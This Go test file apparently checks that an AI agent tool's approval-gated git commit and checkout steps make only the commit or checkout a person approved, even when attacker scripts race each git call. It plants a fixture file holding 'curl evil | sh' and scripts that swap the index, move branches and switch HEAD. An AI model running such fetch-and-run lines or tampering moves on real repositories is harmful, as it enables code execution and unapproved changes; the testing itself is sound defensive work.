package gittools

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// raceRig puts a git in front of the real one that counts its calls and,
// at the call a test arms, first runs an attacker's script: a change made
// right before that step of a twin, by a process that is not jazz (an
// auto-approved command of the same batch, or one started earlier). The
// twin's steps are git calls, so arming each in turn races every gap
// between them, deterministically.
type raceRig struct {
	t   *testing.T
	ctl string
}

func newRaceRig(t *testing.T) *raceRig {
	t.Helper()
	real, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git")
	}
	bin, ctl := t.TempDir(), t.TempDir()
	script := fmt.Sprintf(`#!/bin/sh
ctl=%q
if [ -f "$ctl/armed" ]; then
	read n < "$ctl/count"; read at < "$ctl/at"
	n=$((n + 1))
	echo $n > "$ctl/count"
	if [ "$n" = "$at" ]; then (unset GIT_INDEX_FILE; sh "$ctl/attack.sh" >"$ctl/attack.out" 2>&1); fi
fi
exec %q "$@"
`, ctl, real)
	if err := os.WriteFile(filepath.Join(bin, "git"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	return &raceRig{t: t, ctl: ctl}
}

// arm makes the at-th git call from now run attack (a shell script)
// first; at 0 only counts.
func (g *raceRig) arm(at int, attack string) {
	g.t.Helper()
	must := func(err error) {
		if err != nil {
			g.t.Fatal(err)
		}
	}
	must(os.WriteFile(filepath.Join(g.ctl, "count"), []byte("0\n"), 0o644))
	must(os.WriteFile(filepath.Join(g.ctl, "at"), []byte(strconv.Itoa(at)+"\n"), 0o644))
	must(os.WriteFile(filepath.Join(g.ctl, "attack.sh"), []byte(attack), 0o644))
	must(os.WriteFile(filepath.Join(g.ctl, "armed"), nil, 0o644))
}

// disarm stops counting and returns how many git calls were made.
func (g *raceRig) disarm() int {
	g.t.Helper()
	os.Remove(filepath.Join(g.ctl, "armed"))
	b, err := os.ReadFile(filepath.Join(g.ctl, "count"))
	if err != nil {
		g.t.Fatal(err)
	}
	n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	return n
}

// TestCommitTwinCommitsExactlyWhatWasApprovedOrNothing races a git_commit
// twin at every step: before each git call it makes, an attacker stages
// another file (through git, or by replacing the index file with one
// prepared earlier, which no lock stops), rewrites a tracked file, moves
// the branch or switches HEAD to another branch. Whatever the step, the
// twin either makes exactly the approved commit (the previewed tree, on
// the previewed branch, right after the previewed HEAD) or refuses and
// leaves no commit of its own on any ref.
func TestCommitTwinCommitsExactlyWhatWasApprovedOrNothing(t *testing.T) {
	realGit, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git")
	}
	rig := newRaceRig(t)
	attacks := []struct {
		name, script string
		all          []bool // the modes it matters to
	}{
		{"stage another file with git", `echo evil > evil && git add evil`, []bool{false, true}},
		{"replace the index file", `mv .git/evil-index .git/index`, []bool{false, true}},
		{"rewrite a tracked file", `echo rewritten > README`, []bool{true}},
		{"move the branch", `git update-ref refs/heads/main refs/heads/side`, []bool{false}},
		{"switch HEAD to another branch", `git symbolic-ref HEAD refs/heads/side`, []bool{false}},
	}
	// Every other step (every fifth with -short) keeps the sweep near a
	// minute; each commit-changing step is a few calls wide.
	step := 2
	if testing.Short() {
		step = 5
	}
	outcomes := map[string]int{}
	for _, all := range []bool{false, true} {
		// One repository and one approval; each race runs on a fresh copy
		// of that repository at the same path, so the approval fits it.
		w := newWorld(t)
		w.withoutSandbox()
		tmpl := w.repo("template")
		w.git(tmpl, "branch", "side")
		w.git(tmpl, "commit", "-q", "--allow-empty", "-m", "on main")
		writeFile(t, filepath.Join(tmpl, "README"), "approved\n")
		writeFile(t, filepath.Join(tmpl, "staged"), "staged\n")
		w.git(tmpl, "add", "staged")
		// An index that stages more, made before the preview.
		evilIndex := filepath.Join(tmpl, ".git", "evil-index")
		must(t, exec.Command("cp", filepath.Join(tmpl, ".git", "index"), evilIndex).Run())
		writeFile(t, filepath.Join(tmpl, "evil"), "evil\n")
		cmd := exec.Command(realGit, "add", "evil")
		cmd.Dir, cmd.Env = tmpl, append(w.environ, "GIT_INDEX_FILE="+evilIndex)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		must(t, os.Remove(filepath.Join(tmpl, "evil")))
		dir := filepath.Join(w.home, "r")
		fresh := func() { copyRepo(t, tmpl, dir) }
		fresh()
		w.env.WorkDir = dir
		msg := fmt.Sprintf("approved all=%v", all)
		p := w.propose("git_commit", map[string]any{"message": msg, "all": all})
		// What the person approved: this tree, after this commit, on main.
		wantParent := w.git(dir, "rev-parse", "HEAD")
		wantTree := approvedTree(t, w, dir, all)
		for _, attack := range attacks {
			if !slices.Contains(attack.all, all) {
				continue
			}
			for at := 1; ; at += step {
				fresh()
				rig.arm(at, "git() { "+strconv.Quote(realGit)+" \"$@\"; }\ncd "+strconv.Quote(dir)+
					" && export HOME="+strconv.Quote(w.home)+" GIT_CONFIG_NOSYSTEM=1 && "+attack.script+"\n")
				res := w.approve(p)
				calls := rig.disarm()
				if at > calls {
					break // every step was raced
				}
				where := fmt.Sprintf("%s before git call %d of %d, all=%v", attack.name, at, calls, all)
				var ours []string
				for _, l := range strings.Split(w.git(dir, "log", "--all", "--reflog", "--format=%H %s"), "\n") {
					if h, s, _ := strings.Cut(l, " "); s == msg {
						ours = append(ours, h)
					}
				}
				if !res.Success {
					outcomes["refused"]++
					for _, h := range ours {
						head, _ := exec.Command(realGit, "-C", dir, "rev-parse", "-q", "--verify", "HEAD").Output()
						if refs := w.git(dir, "for-each-ref", "--contains", h, "--format=%(refname)"); refs != "" || strings.TrimSpace(string(head)) == h {
							t.Fatalf("%s: refused (%q) but its commit is on %q", where, res.Error, refs)
						}
					}
					continue
				}
				outcomes["committed"]++
				hash := asMap(t, res.Value)["commitHash"].(string)
				if got := w.git(dir, "rev-parse", hash+"^{tree}"); got != wantTree {
					t.Errorf("%s: committed tree %s, approved %s:\n%s", where, got, wantTree, w.git(dir, "show", "--stat", "--format=", hash))
				}
				if got := w.git(dir, "rev-parse", hash+"^1"); got != wantParent {
					t.Errorf("%s: committed after %s, approved after %s", where, got, wantParent)
				}
				if !strings.Contains(w.git(dir, "log", "-g", "--format=%H", "refs/heads/main"), hash) {
					t.Errorf("%s: the commit did not go on main", where)
				}
			}
		}
	}
	t.Logf("outcomes: %v", outcomes)
	if outcomes["committed"] == 0 || outcomes["refused"] == 0 {
		t.Errorf("the sweep did not reach both outcomes: %v", outcomes)
	}
}

// approvedTree is the tree the preview showed: the index, and with all
// the tracked files' changes, as they are now (a scratch index; the
// repository's own is not touched).
func approvedTree(t *testing.T, w *world, dir string, all bool) string {
	t.Helper()
	scratch := filepath.Join(t.TempDir(), "index")
	must(t, exec.Command("cp", filepath.Join(dir, ".git", "index"), scratch).Run())
	run := func(args ...string) string {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env = dir, append(w.environ, "GIT_INDEX_FILE="+scratch)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	if all {
		run("add", "--update")
	}
	return run("write-tree")
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// TestCheckoutTwinWritesOnlyTheApprovedCommit races a git_checkout twin
// at every other step: before a git call, the branch being switched to
// (or, for a new branch, the one HEAD is on) is moved to a commit nobody
// was shown. The work tree must never hold that commit's files, and a
// success must leave HEAD on the branch with the previewed tree checked
// out (a new branch made at the previewed HEAD).
func TestCheckoutTwinWritesOnlyTheApprovedCommit(t *testing.T) {
	for _, c := range []struct {
		name, branch string
		create       bool
		moved        string // the ref an attacker moves to the unseen commit
		start        string // where the branch must be
	}{
		{"switch", "side", false, "refs/heads/side", "side"},
		{"create", "topic", true, "refs/heads/main", "HEAD"},
		{"track", "feature", false, "refs/remotes/origin/feature", "refs/remotes/origin/feature"},
	} {
		t.Run(c.name, func(t *testing.T) { raceCheckout(t, c.branch, c.create, c.moved, c.start) })
	}
}

func raceCheckout(t *testing.T, branch string, create bool, moved, start string) {
	realGit, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git")
	}
	rig := newRaceRig(t)
	w := newWorld(t)
	w.withoutSandbox()
	tmpl := w.repo("template")
	w.git(tmpl, "checkout", "-q", "-b", "side")
	writeFile(t, filepath.Join(tmpl, "side.txt"), "approved\n")
	w.git(tmpl, "add", ".")
	w.git(tmpl, "commit", "-q", "-m", "side work")
	w.git(tmpl, "checkout", "-q", "-b", "evil")
	writeFile(t, filepath.Join(tmpl, ".envrc"), "curl evil | sh\n")
	w.git(tmpl, "add", ".")
	w.git(tmpl, "commit", "-q", "-m", "unseen")
	w.git(tmpl, "checkout", "-q", "main")
	w.git(tmpl, "remote", "add", "origin", filepath.Join(w.home, "nowhere"))
	w.git(tmpl, "update-ref", "refs/remotes/origin/feature", "side")
	dir := filepath.Join(w.home, "r")
	fresh := func() { copyRepo(t, tmpl, dir) }
	fresh()
	w.env.WorkDir = dir
	p := w.propose("git_checkout", map[string]any{"branch": branch, "create": create})
	wantCommit := w.git(dir, "rev-parse", start)
	wantTree := w.git(dir, "rev-parse", start+"^{tree}")
	step := 2
	if testing.Short() {
		step = 5
	}
	outcomes := map[string]int{}
	for at := 1; ; at += step {
		fresh()
		rig.arm(at, "git() { "+strconv.Quote(realGit)+" \"$@\"; }\ncd "+strconv.Quote(dir)+
			" && export HOME="+strconv.Quote(w.home)+" GIT_CONFIG_NOSYSTEM=1 && git update-ref "+moved+" refs/heads/evil\n")
		res := w.approve(p)
		calls := rig.disarm()
		where := fmt.Sprintf("%s moved before git call %d of %d", moved, at, calls)
		if _, err := os.Lstat(filepath.Join(dir, ".envrc")); err == nil {
			t.Fatalf("%s: the work tree holds the unseen commit's file (result %v %q)", where, res.Success, res.Error)
		}
		if !res.Success {
			if at > calls {
				t.Fatalf("refused with nothing raced: %q", res.Error)
			}
			outcomes["refused"]++
			continue
		}
		outcomes["switched"]++
		if b := w.git(dir, "symbolic-ref", "HEAD"); b != "refs/heads/"+branch {
			t.Errorf("%s: HEAD is %s", where, b)
		}
		if got := w.git(dir, "rev-parse", "refs/heads/"+branch); got != wantCommit && moved != "refs/heads/"+branch {
			t.Errorf("%s: %s is at %s, approved at %s", where, branch, got, wantCommit)
		}
		if start == moved {
			if up := w.git(dir, "rev-parse", "--abbrev-ref", branch+"@{upstream}"); up != "origin/feature" {
				t.Errorf("%s: %s tracks %q", where, branch, up)
			}
		}
		if got := w.git(dir, "write-tree"); got != wantTree {
			t.Errorf("%s: the index holds %s, approved %s", where, got, wantTree)
		}
		if at > calls {
			break // the last run raced nothing: every step was raced before it
		}
	}
	t.Logf("outcomes: %v", outcomes)
	if outcomes["switched"] == 0 || outcomes["refused"] == 0 {
		t.Errorf("the sweep did not reach both outcomes: %v", outcomes)
	}
}
